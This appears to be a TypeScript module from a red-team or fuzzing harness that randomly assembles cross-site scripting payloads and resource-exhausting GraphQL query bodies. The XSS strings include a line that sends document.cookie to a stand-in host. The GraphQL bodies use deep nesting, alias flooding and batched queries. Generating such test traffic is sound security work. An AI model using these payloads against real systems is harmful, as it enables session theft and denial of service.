/** What the tools with tokens put into bodies: written here, drawn from a seed. */
import type { Random } from '../../redteam/src/core/random.ts';

const TAGS = ['img', 'svg', 'body', 'video', 'input', 'details', 'iframe', 'marquee', 'audio', 'object'];
const HANDLERS = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onmouseover', 'onstart', 'onanimationend'];
const CALLS = [
  'alert(1)',
  'confirm(document.domain)',
  'fetch(`//x.example/`+document.cookie)',
  'eval(name)',
  'print()',
];
const CLOSINGS = ['', '">', "'>", '</title>', '</textarea>', '--><'];

/** Script in markup, as a text of JSON may carry it. */
export function scriptOf(random: Random): string {
  const call = random.pick(CALLS);
  const close = random.pick(CLOSINGS);
  if (random.chance(0.25)) return `${close}<script>${call}</script>`;
  if (random.chance(0.15)) return `${close}<a href="javascript:${call}">x</a>`;
  const tag = random.chance(0.3) ? random.pick(TAGS).toUpperCase() : random.pick(TAGS);
  return `${close}<${tag} src=x ${random.pick(HANDLERS)}=${random.pick(['', '"'])}${call}>`;
}

/** GraphQL requests that ask for much more than they look like: nested, with aliases, or many at once. One body each. */
export function dearQuery(random: Random): string {
  const id = 1 + random.below(400);
  const shape = random.below(4);
  if (shape === 0) return bodyOf(`{ product(id: ${id}) ${nested(4 + random.below(7), 'related')} }`);
  if (shape === 1) {
    const pages = Array.from(
      { length: 10 + random.below(60) },
      (_, i) => `a${i}: products(page: ${i}, perPage: 40) { id name }`,
    );
    return bodyOf(`{ ${pages.join(' ')} }`);
  }
  if (shape === 2)
    return bodyOf(
      `{ products(perPage: ${200 + random.below(200)}) { name reviews(first: ${20 + random.below(80)}) { text } } }`,
    );
  const one = { query: `{ search(q: "a") ${nested(2 + random.below(2), 'related')} }` };
  return JSON.stringify(Array.from({ length: 4 + random.below(10) }, () => one));
}

const bodyOf = (query: string): string => JSON.stringify({ query });

const nested = (levels: number, field: string): string =>
  levels === 0 ? '{ id name }' : `{ id ${field} ${nested(levels - 1, field)} }`;
